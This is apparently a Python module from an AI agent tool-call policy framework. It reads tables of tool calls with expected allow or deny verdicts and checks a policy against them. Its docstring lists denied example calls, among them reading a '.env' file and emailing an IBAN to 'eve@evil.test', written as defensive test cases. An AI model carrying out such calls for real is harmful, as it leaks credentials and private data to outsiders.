"""Tables of calls and their expected verdicts, for testing a policy: TOML or JSON Lines.

```toml
[[call]]
command = "git push --force"        # of the tool "shell", unless `tool` names another
verdict = "deny"
rule = "no force-push"              # the rule that must decide; optional

[[call]]
tool = "read_file"
arguments = { path = ".env" }
verdict = "deny"

[[call]]
after = ["pytest", { command = "make", outcome = "error" }, { tool = "pay", seconds_ago = 60 }]
command = "make deploy"
verdict = "deny"

[[call]]
tool = "send_email"
arguments = { to = "eve@evil.test", body = "the account is DE89370400440532013000" }
in_view = { untrusted = ["eve@evil.test"], private = [] }       # labels, and words of such texts
carries = { iban = ["DE89370400440532013000"] }
named = ["partner.test"]            # hosts and recipients that the person named
verdict = "deny"
```

`after` lists the session's earlier calls in order: each has run and ended before the next, with the
`outcome` "success" or "error" and the result `text`, `seconds_ago` before the row's own call (0). A
row with an earlier call that the policy denies differs: that call never runs. A row without
`in_view` has nothing in view.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Annotated, Any, TypeAlias

import msgspec
from msgspec import Struct

from toolbus.errors import ConfigurationError
from toolbus.events.catalogue import Scope
from toolbus.messages.records import ToolCall, ToolMessage, ToolResponse
from toolbus.policy.call_reader import CallReader, LineCache
from toolbus.policy.history.counted_calls import CountedCall, call_key, decide, end_call, shell_key
from toolbus.policy.history.session_record import SessionRecord
from toolbus.policy.rules.judge import CallJudge
from toolbus.policy.rules.table_reader import TableReader
from toolbus.policy.rules.tables import Default, Ending, LabelName, ValueKind
from toolbus.policy.rules.verdict_texts import decider, failure_text, reason_text
from toolbus.policy.shared_facts import StatedFacts
from toolbus.toml.files import decode_text, locate_keys, parse_toml, read_bytes, unknown_file_key
from toolbus.toml.values import MisfitError

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from toolbus.policy.rules.records import CallVerdict, PolicyRules

_TABLES = "call"
_LONGEST = 2**26
_Words: TypeAlias = Annotated[tuple[str, ...], msgspec.Meta(description="a list of texts")]


def _table_of(names: str, name: str) -> msgspec.Meta:
    return msgspec.Meta(description=f'a table of {names}, such as {{ {name} = ["words"] }}')


class TableCall(Struct, frozen=True, kw_only=True, forbid_unknown_fields=True):
    """A call in a table."""

    command: str | None = None
    tool: str = "shell"
    arguments: dict[str, Any] = {}

    def call(self, call_id: str) -> ToolCall:
        """Return the call."""
        command = {} if self.command is None else {"command": self.command}
        return ToolCall(id=call_id, name=self.tool, arguments={**self.arguments, **command})

    @property
    def shown(self) -> str:
        """The call, for display."""
        return self.command if self.command is not None else f"{self.tool} {self.arguments}"


class EarlierCall(TableCall, frozen=True, kw_only=True, forbid_unknown_fields=True):
    """An earlier call of the session, and its end."""

    outcome: Ending = "success"
    text: str = ""
    seconds_ago: Annotated[float, msgspec.Meta(ge=0)] = 0

    def ended(self, call: ToolCall) -> ToolMessage:
        """Return the result of *call*, made from this row."""
        response = ToolResponse(
            self.text, is_error=self.outcome == "error", parameters=call.arguments
        )
        return ToolMessage(tool_call_id=call.id, tool_name=call.name, tool_response=response)


class TableRow(TableCall, frozen=True, kw_only=True, forbid_unknown_fields=True):
    """One call with its expected *verdict*; *line* is set to its line in the file.

    The call is made *after* other calls, each a command line or a table.
    """

    verdict: Default
    after: Annotated[
        tuple[str | EarlierCall, ...], msgspec.Meta(description="an array of calls")
    ] = ()
    agent: str = ""
    context: dict[str, Any] = {}
    in_view: Annotated[dict[LabelName, _Words], _table_of("labels", "untrusted")] = {}
    carries: Annotated[dict[ValueKind, _Words], _table_of("kinds", "card")] = {}
    named: _Words = ()
    rule: str | None = None
    source: str = ""
    line: int = 0

    @property
    def earlier(self) -> list[EarlierCall]:
        """The earlier calls."""
        return [EarlierCall(command=each) if isinstance(each, str) else each for each in self.after]


class RowResult(Struct, frozen=True):
    """A policy's verdict on a *row*; *difference* is how it differs from the expectation, or ""."""

    row: TableRow
    verdict: str
    decided_by: str
    why: str
    difference: str


def read_rows(file: Path) -> list[TableRow]:
    """Return the rows of *file*, `.toml` or JSON Lines; raises `ConfigurationError`."""
    text = decode_text(file, read_bytes(file, _LONGEST))
    rows = [_row(file, table, line) for table, line in _tables(file, text)]
    if not rows:
        raise ConfigurationError(f"it has no row; add [[{_TABLES}]]", str(file))
    return rows


def check_rows(
    rules: PolicyRules, rows: Sequence[TableRow], folder: str | None = None
) -> Iterator[RowResult]:
    """Yield the verdict of *rules* on each row, for tools that work in *folder*."""
    reader, judge = CallReader(rules, LineCache()), CallJudge(rules)
    for row in rows:
        session = _TriedSession(judge, reader, row, folder)
        denied = next(filter(None, map(session.run, row.earlier)), "")
        yield _result(row, session.judge(row.call("row"), 0)[0], denied)


class _TriedSession:
    """The session of one row, with the record of its calls."""

    def __init__(
        self, judge: CallJudge, reader: CallReader, row: TableRow, folder: str | None
    ) -> None:
        self._judge, self._reader, self._folder = judge, reader, folder
        self._scope = Scope(agent_id=row.agent, context=row.context)
        self._origins = StatedFacts(row.in_view, row.carries, row.named)
        self._record, self._count = SessionRecord(None), 0

    def judge(self, call: ToolCall, now: float) -> tuple[CallVerdict, str | None]:
        """Return the verdict on *call* and its folder; the call is recorded unless denied."""
        kept_in = self._record.shell_folder(shell_key(self._scope, call.name))
        facts = self._reader.facts(
            call, None, self._scope, self._folder, kept_in, origins=self._origins
        )
        counted = CountedCall.of(self._judge, self._judge.judge(facts), self._scope)
        return decide([counted], self._record, now)[0], facts.folder

    def run(self, earlier: EarlierCall) -> str:
        """Run *earlier* to its end; return why it cannot run, or ""."""
        self._count += 1
        call, now = earlier.call(f"earlier-{self._count}"), -earlier.seconds_ago
        verdict, folder = self.judge(call, now)
        if verdict.verdict == "deny":
            return f"call {self._count} of `after` never runs because it is denied: {earlier.shown}"
        ended = earlier.ended(call)
        next_folder = None
        if earlier.outcome == "success":
            next_folder = self._reader.next_folder(call, folder)
        key = call_key(self._scope, call.id)
        end_call([self._judge.rules], self._record, key, ended, now, folder=next_folder)
        return ""


def _result(row: TableRow, judgement: CallVerdict, denied: str) -> RowResult:
    verdict, failed = judgement.verdict, judgement.failed
    findings = [part.decided for part in judgement.decided] if failed is None else [failed]
    decided = decider(findings[0])
    why = reason_text(findings[0]) if failed is None else failure_text(failed)
    rules = {finding.rule.name for finding in findings if finding.rule}
    difference = denied
    if not denied and verdict != row.verdict:
        difference = f"expected {row.verdict}, got {verdict}"
    elif not denied and row.rule is not None and row.rule not in rules:
        difference = f"expected rule {row.rule!r}, got {decided}"
    return RowResult(row, verdict, decided, why, difference)


def _tables(file: Path, text: str) -> Iterator[tuple[Any, int]]:
    """Yield each row of *text* as written, and its line."""
    if file.suffix == ".toml":
        table = parse_toml(file, text)
        for key in table:
            if key != _TABLES:
                raise ConfigurationError(
                    unknown_file_key(key, [_TABLES], "expected a table of calls"), str(file)
                )
        lines = locate_keys(file, text)
        rows = table.get(_TABLES, [])
        if not isinstance(rows, list):
            raise ConfigurationError(f"{_TABLES!r} is not an array; use [[{_TABLES}]]", str(file))
        yield from [(row, lines.get((_TABLES, index), 1)) for index, row in enumerate(rows)]
        return
    for number, line in enumerate(text.split("\n"), 1):
        if line.strip():
            try:
                yield msgspec.json.decode(line.encode()), number
            except msgspec.DecodeError as error:
                raise ConfigurationError(f"expected JSON: {error}", str(file), number) from None


def _row(file: Path, table: Any, line: int) -> TableRow:
    try:
        reader = TableReader()
        row: TableRow = reader.read(table, Annotated[TableRow, msgspec.Meta(description="a table")])
        if reader.mistakes:
            raise reader.mistakes[0]
        _check_row(row)
    except MisfitError as error:
        steps = list(error.path)
        if error.reason.startswith(("unknown key", "unknown verdict")):
            del steps[-1]
        place = "".join([".".join(map(str, steps)), ": "]) if steps else ""
        raise ConfigurationError(f"{place}{error.reason}", str(file), line) from None
    return msgspec.structs.replace(row, line=line)


def _check_row(row: TableRow) -> None:
    """Raise `MisfitError` for calls without a command or tool, or in the wrong order."""
    for number, each in enumerate([row, *row.earlier]):
        if each.command is None and each.tool == "shell" and not each.arguments:
            which = f"call {number} of `after`" if number else "a row"
            raise MisfitError(f"{which} needs a `command` or a `tool`")
    ages = [each.seconds_ago for each in row.earlier]
    if ages != sorted(ages, reverse=True):
        raise MisfitError("`after` lists calls in order, so `seconds_ago` must not increase")
